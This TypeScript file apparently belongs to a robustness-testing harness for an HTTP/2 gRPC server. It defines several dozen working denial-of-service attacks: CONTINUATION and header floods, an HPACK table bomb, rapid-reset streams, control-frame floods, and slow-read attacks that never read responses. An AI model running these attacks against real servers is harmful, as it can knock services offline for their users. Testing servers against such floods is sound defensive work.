import { type Attempt, firstOf, framing, open, type Victim } from './attempt.js';
import {
  ACK,
  BEGIN,
  block,
  call,
  dataFrame,
  END_HEADERS,
  END_STREAM,
  frame,
  type Header,
  headersFrame,
  headersInParts,
  message,
  numbered,
  pathOf,
  requestTo,
  settings,
  TYPE,
  times,
  uint32,
} from './frames.js';

const request = requestTo(pathOf('Unary'));
/** The number of the stream that a client opens after `index` others. */
const streamOf = (index: number) => index * 2 + 1;

const inParts = (headers: readonly Header[], { ends = true } = {}) =>
  headersInParts(headers, { flags: END_STREAM, ends });

const large = (bytes: number): readonly Header[] => [...request, ['x-large', 'x'.repeat(bytes)]];
const many = (count: number): readonly Header[] => [...request, ...numbered(count)];

/** A header of 4 KiB in the HPACK table, then one byte for each further 4 KiB. */
function tableBomb(): Buffer {
  const stored = Buffer.concat([Buffer.from([0x40]), block([['x', 'y'.repeat(3_900)]]).subarray(1)]);
  const payload = Buffer.concat([block(request), stored, Buffer.alloc(10_000, 0xbe)]);
  return frame(TYPE.HEADERS, { flags: END_HEADERS | END_STREAM, stream: 1, payload });
}

/** Sends `frames` without reading a byte, as long as the server accepts them. */
function deaf(name: string, frames: readonly Buffer[]): Attempt {
  return [
    name,
    async (victim: Victim) => {
      const socket = await open(victim);
      socket.pause();
      for (const one of [BEGIN, ...frames]) socket.write(one);
      // The server never catches up, unless it gives up.
      await firstOf(socket, ['drain', 'close'], 500);
      socket.destroy();
    },
  ];
}

const stream = (method: string, index: number) => headersFrame(requestTo(pathOf(method)), { stream: streamOf(index) });
const reset = (index: number, code = 8) => frame(TYPE.RST_STREAM, { stream: streamOf(index), payload: uint32(code) });
/** Requests 1,000 messages of 64 KiB each. */
const greedy = message(Buffer.from([0x08, 0xe8, 0x07, 0x10, 0x80, 0x80, 0x04]));

/** More than any client needs. */
export const floods: readonly Attempt[] = [
  framing('129 headers', call(many(129))),
  framing('5,000 headers', inParts(many(5_000))),
  framing('a header of 15 KiB', inParts(large(15 * 1024))),
  framing('a header of 70 KiB', inParts(large(70 * 1024))),
  framing('a header of 1 MiB', inParts(large(1024 * 1024))),
  framing('headers without end', inParts(large(1024 * 1024), { ends: false })),
  framing(
    '10,000 empty CONTINUATIONs',
    headersFrame(request, { flags: 0 }),
    ...times(10_000, () => frame(TYPE.CONTINUATION, { stream: 1 })),
  ),
  framing(
    '10,000 CONTINUATIONs of a byte',
    headersFrame(request, { flags: 0 }),
    ...times(10_000, () => frame(TYPE.CONTINUATION, { stream: 1, payload: Buffer.from([0x82]) })),
  ),
  framing('a table of headers that unpacks to 40 MB', tableBomb()),
  framing('50 headers twice as large each time', ...times(50, () => settings([1, 65_536])), tableBomb()),
  framing(
    '2,000 calls that are reset at once',
    ...times(2_000, (index) => [stream('Unary', index), reset(index)]).flat(),
  ),
  framing(
    '2,000 calls that are reset after their request',
    ...times(2_000, (index) => [
      stream('Unary', index),
      dataFrame(message(), { stream: streamOf(index) }),
      reset(index),
    ]).flat(),
  ),
  framing(
    '1,000 streams that make the server reset them',
    ...times(1_000, (index) => {
      const update = frame(TYPE.WINDOW_UPDATE, { stream: streamOf(index), payload: uint32(0) });
      return [stream('BidiStream', index), update];
    }).flat(),
  ),
  framing(
    '1,000 calls that the server refuses',
    ...times(1_000, (index) => headersFrame(requestTo('/no.Such/Method'), { stream: streamOf(index), flags: 5 })),
  ),
  framing('500 streams that stay open', ...times(500, (index) => stream('BidiStream', index))),
  framing(
    '1,000 calls at once',
    ...times(1_000, (index) => {
      return Buffer.concat([stream('Unary', index), dataFrame(message(), { stream: streamOf(index) })]);
    }),
  ),
  framing('10,000 PINGs', ...times(10_000, () => frame(TYPE.PING, { payload: Buffer.alloc(8) }))),
  framing(
    '10,000 answers to PINGs',
    ...times(10_000, () => frame(TYPE.PING, { flags: ACK, payload: Buffer.alloc(8) })),
  ),
  framing('5,000 SETTINGS', ...times(5_000, () => settings())),
  framing('5,000 windows', ...times(5_000, (index) => settings([4, index]))),
  framing(
    '10,000 PRIORITYs',
    ...times(10_000, (index) => {
      return frame(TYPE.PRIORITY, { stream: streamOf(index), payload: Buffer.from([0, 0, 0, 0, 16]) });
    }),
  ),
  framing('10,000 WINDOW_UPDATEs', ...times(10_000, () => frame(TYPE.WINDOW_UPDATE, { payload: uint32(1) }))),
  framing(
    '10,000 empty DATAs',
    headersFrame(requestTo(pathOf('ClientStream'))),
    ...times(10_000, () => dataFrame(Buffer.alloc(0), { flags: 0 })),
  ),
  deaf(
    '10,000 PINGs whose answers stay unread',
    times(10_000, () => frame(TYPE.PING, { payload: Buffer.alloc(8) })),
  ),
  deaf(
    '5,000 SETTINGS whose answers stay unread',
    times(5_000, () => settings()),
  ),
  deaf(
    '100 streams of 64 MB that stay unread',
    times(100, (index) => [stream('ServerStream', index), dataFrame(greedy, { stream: streamOf(index) })]).flat(),
  ),
  deaf('a window of no bytes', [
    settings([4, 0]),
    ...times(100, (index) =>
      Buffer.concat([stream('ServerStream', index), dataFrame(greedy, { stream: streamOf(index) })]),
    ),
  ]),
  deaf('windows that open byte by byte', [
    settings([4, 1]),
    stream('ServerStream', 0),
    dataFrame(greedy),
    ...times(2_000, () => frame(TYPE.WINDOW_UPDATE, { stream: 1, payload: uint32(1) })),
  ]),
];
